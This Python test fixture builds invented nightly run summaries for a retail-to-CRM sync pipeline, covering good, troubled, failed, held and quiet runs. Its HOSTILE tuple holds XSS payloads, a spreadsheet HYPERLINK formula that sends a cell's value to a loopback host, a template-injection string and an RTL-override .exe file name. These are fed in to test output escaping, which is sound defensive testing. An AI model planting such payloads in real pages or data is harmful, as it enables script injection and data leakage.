"""Invented nights, rich enough to look at: good, with troubles, failed, held, with nothing to do."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

from flows.records import MASK
from flows.summary import (
    ErrorSummary,
    GateSummary,
    MismatchSummary,
    ModelSummary,
    PlanSummary,
    RejectionSummary,
    RunSummary,
    Sample,
    SourceSummary,
    StageState,
    StageSummary,
    SyncSummary,
)
from flows.summary.findings import AnomalySummary, Example, FindingSummary, ForecastSummary

START = datetime(2010, 12, 10, 2, 0, 4, tzinfo=UTC)


def stages(*steps: tuple[str, float, StageState]) -> tuple[StageSummary, ...]:
    """Stages one after the other."""
    at, made = START, []
    for name, seconds, state in steps:
        made.append(StageSummary(name, seconds, state, at))
        at += timedelta(seconds=seconds)
    return tuple(made)


SOURCES = (
    SourceSummary(
        "retail.invoice_lines",
        2_641,
        118_204,
        1,
        newest=START + timedelta(seconds=1),
        freshness="pass",
    ),
    SourceSummary(
        "shop.customers",
        112,
        31_870,
        1,
        warnings=("Column loyalty_tier is in the pages but not declared; it was left out.",),
        newest=START + timedelta(seconds=2),
        freshness="pass",
    ),
)

MODELS = tuple(
    ModelSummary(name, "success", seconds, rows)
    for name, seconds, rows in (
        ("stg_retail__invoice_lines", 0.06, None),
        ("stg_shop__customers", 0.05, None),
        ("int_invoices_netted", 0.08, None),
        ("int_customers_rfm", 0.07, None),
        ("crm_accounts", 0.91, 948),
        ("crm_contacts", 0.38, 871),
        ("crm_opportunities", 1.24, 1_203),
    )
)

GATES = (
    GateSummary(
        "raw",
        "raw.retail__invoice_lines",
        "expect_column_values_to_not_be_null",
        "warning",
        False,
        column="CustomerID",
        row_level=True,
        observed="24.9 % missing",
        evaluated_rows=2_641,
        unexpected_rows=658,
        failing_rows=tuple(f"2010-12-09.csv.gz, row {row:,}" for row in (12, 13, 341, 342, 1_480)),
        detail="Lines without a customer stay out of the CRM; more than a quarter means the till is not asking.",
    ),
    GateSummary(
        "raw",
        "raw.retail__invoice_lines",
        "expect_column_values_to_be_between",
        "warning",
        False,
        column="UnitPrice",
        row_level=True,
        observed="-11062.06 … 569.77",
        evaluated_rows=2_641,
        unexpected_rows=4,
        samples=("0.0000", "-11062.0600", "<b>0</b>", "=1+1"),
        failing_rows=tuple(f"2010-12-09.csv.gz, row {row:,}" for row in (87, 90, 1_112, 2_004)),
        detail="A sold line has a price above zero.",
    ),
    GateSummary(
        "raw",
        "raw.retail__invoice_lines",
        "expect_table_row_count_to_be_between",
        "critical",
        True,
        observed="2,641",
        detail="A night has lines; an empty file is a delivery that went wrong.",
    ),
    GateSummary(
        "raw",
        "raw.retail__invoice_lines",
        "expect_column_values_to_match_regex",
        "critical",
        True,
        column="InvoiceNo",
        row_level=True,
        evaluated_rows=2_641,
        unexpected_rows=0,
        detail="Six digits, with a C before them for a cancellation.",
    ),
    GateSummary(
        "raw",
        "raw.shop__customers",
        "expect_column_proportion_of_unique_values_to_be_between",
        "critical",
        True,
        column="customer_id",
        observed="1.0",
    ),
    GateSummary(
        "crm",
        "crm.crm_accounts",
        "expect_column_values_to_be_between",
        "critical",
        True,
        column="lifetime_value",
        row_level=True,
        evaluated_rows=948,
        unexpected_rows=0,
        detail="Nobody is worth more than a million pounds a year, or less than what was returned.",
    ),
    GateSummary(
        "crm",
        "crm.crm_opportunities",
        "unexpected_rows_expectation",
        "critical",
        True,
        row_level=True,
        evaluated_rows=1_203,
        unexpected_rows=0,
        detail="What is returned is never more than what was sold.",
    ),
)

ACCOUNTS = SyncSummary(
    "crm_accounts",
    "Account",
    creates=74,
    updates=212,
    applied=286,
    reconciled=286,
    fields={
        "Name": 1,
        "BillingCountry": 2,
        "Last_Order_Date__c": 205,
        "Order_Count__c": 205,
        "Return_Count__c": 19,
        "Lifetime_Value__c": 212,
        "Segment__c": 61,
    },
    samples=(
        Sample("17850", "update", "Lifetime_Value__c", "4312.18", "5391.21"),
        Sample("17850", "update", "Order_Count__c", "31", "34"),
        Sample("17850", "update", "Segment__c", "Loyal", "Champions"),
        Sample("13047", "update", "Lifetime_Value__c", "366.63", "499.95"),
        Sample("13047", "update", "Segment__c", "New", "Promising"),
        Sample("12583", "create", "Name", None, "O'Hare & Søns, “Fine Gifts”"),
        Sample("12583", "create", "BillingCountry", None, "France"),
        Sample("12583", "create", "Lifetime_Value__c", None, "855.86"),
    ),
)
CONTACTS = SyncSummary(
    "crm_contacts",
    "Contact",
    creates=68,
    updates=5,
    archives=2,
    applied=75,
    reconciled=75,
    fields={"Email": 4, "Phone": 1},
    samples=(
        Sample("12583", "create", "FirstName", None, "Zoë"),
        Sample("12583", "create", "LastName", None, "Nakamura-Brontë"),
        Sample("12583", "create", "Email", None, MASK),
        Sample("14688", "update", "Email", MASK, MASK),
        Sample("15311", "archive", "LastName", "Brown", None),
        Sample("16098", "archive"),
    ),
)
OPPORTUNITIES = SyncSummary(
    "crm_opportunities",
    "Opportunity",
    creates=131,
    updates=9,
    archives=3,
    applied=143,
    reconciled=143,
    fields={"Amount": 9, "Returned_Amount__c": 9, "Line_Count__c": 2},
    samples=(
        Sample("537626", "create", "Name", None, "Invoice 537626"),
        Sample("537626", "create", "Amount", None, "711.79"),
        Sample("536365", "update", "Amount", "139.12", "111.30"),
        Sample("536365", "update", "Returned_Amount__c", "0.00", "27.82"),
        Sample("536544", "archive"),
    ),
)


def good() -> RunSummary:
    """Everything was applied and read back; two warnings."""
    return RunSummary(
        run_id="20101210-020004-7f3a",
        target="sandbox",
        state="done",
        started_at=START,
        ended_at=START + timedelta(seconds=14.2),
        as_of=date(2010, 12, 9),
        stages=stages(
            ("extract", 1.1, "done"),
            ("gate_raw", 2.3, "done"),
            ("transform", 4.6, "done"),
            ("gate_crm", 0.9, "done"),
            ("plan", 0.7, "done"),
            ("preflight", 0.1, "done"),
            ("push", 2.8, "done"),
            ("reconcile", 1.4, "done"),
            ("report", 0.4, "done"),
        ),
        sources=SOURCES,
        models=MODELS,
        gates=GATES,
        syncs=(ACCOUNTS, CONTACTS, OPPORTUNITIES),
        forecast=(ForecastSummary("main", 17, 4.25, 99_981, 100_000),),
        requests=19,
        page="var/runs/20101210-020004-7f3a/morning-page.html",
        flow_run="http://127.0.0.1:4200/flow-runs/flow-run/7f3a",
    )


HOSTILE = (
    "<script>document.title='owned'</script>",
    "<img src=http://127.0.0.1:9/x onerror=\"document.title='owned'\">",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")',
    "{{ 7 * 7 }}{% raw %}",
    "\u202egnp.exe\u202c & \"quotes\" 'and' more",
)


FINDINGS = (
    FindingSummary(
        *("value", "main", "Account", "not in the picklist: Stars", "Segment__c", "crm_accounts", "segment"),
        rows=1_204,
        examples=tuple(Example(f"1{n:04}", "Stars") for n in range(5)),
    ),
    FindingSummary(
        *("value", "main", "Contact", "longer than 80 characters", "Email", "crm_contacts", "email"),
        rows=1,
        examples=(Example(HOSTILE[0], MASK),),
    ),
    FindingSummary(
        *("value", "main", "Contact", f"not in the picklist: {HOSTILE[1]}", "Title", "crm_contacts", "title"),
        rows=1,
        examples=(Example("15311", HOSTILE[1]), Example("15312")),
    ),
    FindingSummary(
        *("schema", "main", "Account", "picklist", "Segment__c", "crm_accounts", "segment"),
        before="Stars",
        after=HOSTILE[2],
    ),
    FindingSummary("schema", "main", "Contact", "may be deleted", before="yes", after="no"),
    FindingSummary("schema", "main", "Account", "new", "Color__c", after="string"),
)


def troubled() -> RunSummary:
    """Done, but with rejections, mismatches, records without an answer, and values that try to be HTML."""
    rejections = (
        *(
            RejectionSummary(
                f"1{n:04}",
                "INVALID_EMAIL_ADDRESS",
                f"Email: invalid email address: person.{n}@@example",
                ("Email",),
                {"FirstName": "Zoë", "LastName": f"Number{n}", "Email": MASK, "Phone": None},
                attempts=n - 2300,
                first_seen_at=START - timedelta(days=n - 2301),
            )
            for n in range(2301, 2308)
        ),
        RejectionSummary(
            "15311",
            "REQUIRED_FIELD_MISSING",
            "Required fields are missing: [LastName]",
            ("LastName",),
            {"LastName": None},
        ),
        RejectionSummary(
            *(HOSTILE[0], "STRING_TOO_LONG", f"Name: data value too large: {HOSTILE[1]}", ("Name",)),
            {"Name": HOSTILE[1] + "x" * 300, HOSTILE[0]: HOSTILE[2]},
            other_id=HOSTILE[1],
        ),
    )
    contacts = replace(
        CONTACTS,
        applied=64,
        rejected=9,
        unknown=2,
        reconciled=61,
        mismatched=3,
        samples=(
            *(Sample(value, "update", value, value, f"{value} ") for value in HOSTILE),
            Sample("14688", "update", "FirstName", "", None),
            Sample("14689", "update", "FirstName", "x" * 900, "a\nb\tc"),
        ),
        rejections=rejections,
        mismatches=(
            MismatchSummary("14688", "FirstName", "Zoë", "ZOE"),
            MismatchSummary("14689", "Phone", MASK, None),
            MismatchSummary("14701"),
        ),
    )
    late = replace(SOURCES[0], freshness="warn", newest=START - timedelta(hours=49), rows=0, bytes=0, files_or_pages=0)
    return replace(good(), syncs=(ACCOUNTS, contacts, OPPORTUNITIES), sources=(late, SOURCES[1]), findings=FINDINGS)


def attached() -> RunSummary:
    """Done, with accounts that are not archived, since the CRM would delete people's records with them."""
    others = {"Contact": 1_204, "Opportunity": 3, "Asset": 0}
    accounts = replace(ACCOUNTS, withheld=402, attached=others)
    what = "not archived, since the CRM would also delete what the plan does not archive: Contact (1,204)"
    finding = FindingSummary(
        *("attached", "main", "Account", what),
        sync="crm_accounts",
        rows=402,
        examples=(Example("12349"), Example(HOSTILE[0])),
    )
    return replace(good(), syncs=(accounts, CONTACTS, OPPORTUNITIES), findings=(finding,))


def crossed() -> RunSummary:
    """Done, with people in the way: their edits stay, their deletions are seen, duplicates, a source that shrank."""
    rejected = 5
    accounts = replace(
        ACCOUNTS,
        applied=ACCOUNTS.operations - rejected,
        reconciled=ACCOUNTS.operations - rejected,
        rejected=rejected,
        gone=3,
        deleted="recreate",
        kept={"Name": 14, "BillingCountry": 3},
        rejections=(
            *(
                RejectionSummary(
                    *(external_id, "DUPLICATES_DETECTED", "Use one of these records?"),
                    sent={"Name": "Brontë & Daughters", "BillingCountry": "France", "Segment__c": "New"},
                    other_id=f"001Qy00000B{external_id}IAQ",
                    attempts=attempts,
                    first_seen_at=START - timedelta(days=attempts - 1),
                )
                for external_id, attempts in (("12583", 1), ("13047", 6))
            ),
            *(
                RejectionSummary(
                    *(external_id, "ENTITY_IS_DELETED", "entity is deleted"),
                    sent={"Lifetime_Value__c": "499.95"},
                    first_seen_at=START,
                    gone=True,
                )
                for external_id in ("14688", "15311", "17850")
            ),
        ),
    )
    shrank = "shop.customers shrank from 1,180 to 871 rows, which is below 80%"
    contacts = replace(
        CONTACTS,
        archives=0,
        applied=73,
        reconciled=73,
        withheld=12,
        notes=(f"crm_contacts: 12 records are not archived: {shrank}",),
    )
    opportunities = replace(OPPORTUNITIES, left=1_240, unmatched=7)
    approved = PlanSummary(
        *("5c0e91af" * 8, "pushed", "anna", START + timedelta(hours=5)),
        reason="The new segments are meant; Sales knows.",
        waited=5 * 3600,
    )
    return replace(
        good(),
        run_id="20101213-020004-91aa",
        ended_at=START + timedelta(hours=5, seconds=14.2),
        plan=approved,
        syncs=(accounts, contacts, opportunities),
    )


def failed() -> RunSummary:
    """Stopped by the gate before the transform; nothing was sent."""
    empty = replace(
        GATES[2],
        passed=False,
        observed="0",
        detail="A night has lines; an empty file is a delivery that went wrong.",
    )
    return replace(
        good(),
        run_id="20101211-020003-c01d",
        state="failed",
        ended_at=START + timedelta(seconds=3.6),
        stages=stages(
            ("extract", 1.3, "done"),
            ("gate_raw", 2.2, "failed"),
        ),
        sources=(replace(SOURCES[0], rows=0, bytes=81), SOURCES[1]),
        models=(),
        gates=(empty, *GATES[3:5]),
        syncs=(),
        forecast=(),
        requests=0,
        error=ErrorSummary(
            "raw.retail__invoice_lines is not fit to go on: expect_table_row_count_to_be_between (critical)"
            " found 0 rows, expected at least 1.",
            "Nothing was sent to the CRM. The extracted rows stay; the next run goes on from them.",
            "Ask the owner of retail.invoice_lines for the file of 2010-12-10, then `nightshift run`.",
        ),
    )


def held() -> RunSummary:
    """A plan over a guard: it waits for a person."""
    accounts = replace(ACCOUNTS, creates=0, updates=902, applied=0, reconciled=0, fields={"Segment__c": 902})
    contacts = replace(CONTACTS, creates=0, updates=0, archives=411, applied=0, reconciled=0, fields={})
    return replace(
        good(),
        state="held",
        stages=stages(
            ("extract", 1.1, "done"),
            ("gate_raw", 2.3, "done"),
            ("transform", 4.6, "done"),
            ("gate_crm", 0.9, "done"),
            ("plan", 0.7, "done"),
            ("guard", 0.0, "held"),
        ),
        ended_at=START + timedelta(seconds=9.6),
        syncs=(accounts, contacts),
        forecast=(ForecastSummary("main", 23),),
        requests=3,
        plan=PlanSummary("5c0e91af" * 8, "held"),
        error=ErrorSummary(
            "The plan goes over its guards:\n"
            "  - crm_accounts: 902 records against guard fields.Segment__c of 30% of 948\n"
            "  - crm_contacts: 411 records against guard max_archives of 5% of 871",
            "Nothing was sent to the CRM; the ledger is as it was.",
            "Look at the plan, then decide; or change the model or its guard, and run again.\n"
            "nightshift approve 20101210-020004-7f3a --push\n"
            "nightshift reject 20101210-020004-7f3a --reason TEXT",
            exit_code=3,
        ),
    )


def quiet() -> RunSummary:
    """Nothing new: zero operations."""
    idle = {"creates": 0, "updates": 0, "archives": 0, "applied": 0, "reconciled": 0, "fields": {}, "samples": ()}
    return replace(
        good(),
        run_id="20101212-020005-0b2e",
        ended_at=START + timedelta(seconds=9.1),
        sources=tuple(replace(source, rows=0, bytes=0, files_or_pages=0, warnings=()) for source in SOURCES),
        gates=tuple(gate for gate in GATES if gate.passed),
        syncs=tuple(replace(sync, **idle) for sync in (ACCOUNTS, CONTACTS, OPPORTUNITIES)),
        forecast=(),
        requests=3,
    )


def odd() -> RunSummary:
    """Done, on a day that is unlike others of its weekday; the CRM has made something of what was sent."""
    lines, accounts = "raw.retail__invoice_lines", "crm.crm_accounts"
    anomalies = (
        AnomalySummary("raw", lines, "rows", 1_204, 2_105.4, 3_892.6, 2_999, 8),
        AnomalySummary("raw", lines, "nulls", 0.471, 0.0, 0.2213, 0.148, 8, "CustomerID"),
        AnomalySummary("raw", lines, "age", 0.6, 0.31, 0.395, 0.27, 8, "InvoiceDate"),
        AnomalySummary("crm", accounts, "sum", 0.5, 900_000.0, 1_100_000.0, 1_000_000.0, 5, "lifetime_value"),
    )
    after = tuple(
        GateSummary(
            *("crm_after", "crm_after.crm_accounts", "unexpected_rows_expectation", severity, False),
            observed="12 rows",
            unexpected_rows=12,
            detail="A name that was cut is another name.",
        )
        for severity in ("critical", "info")
    )
    return replace(good(), anomalies=anomalies, gates=(*GATES, *after))


NIGHTS = {
    **{"good": good, "troubled": troubled, "crossed": crossed, "failed": failed, "held": held, "quiet": quiet},
    **{"odd": odd, "attached": attached},
}
